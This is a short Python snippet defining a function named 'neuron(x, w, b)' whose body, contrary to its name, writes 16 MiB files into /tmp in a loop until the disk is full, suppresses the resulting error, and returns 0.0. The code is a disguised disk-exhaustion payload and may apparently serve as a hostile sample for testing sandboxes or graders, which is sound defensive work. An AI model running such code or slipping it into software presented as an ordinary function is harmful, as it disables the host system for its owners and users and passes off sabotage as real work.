# Files until the disk is full.
def neuron(x, w, b):
    try:
        for i in range(10**9):
            with open(f"/tmp/{i}", "wb") as f:
                f.write(b"x" * (1 << 24))
    except OSError:
        pass
    return 0.0
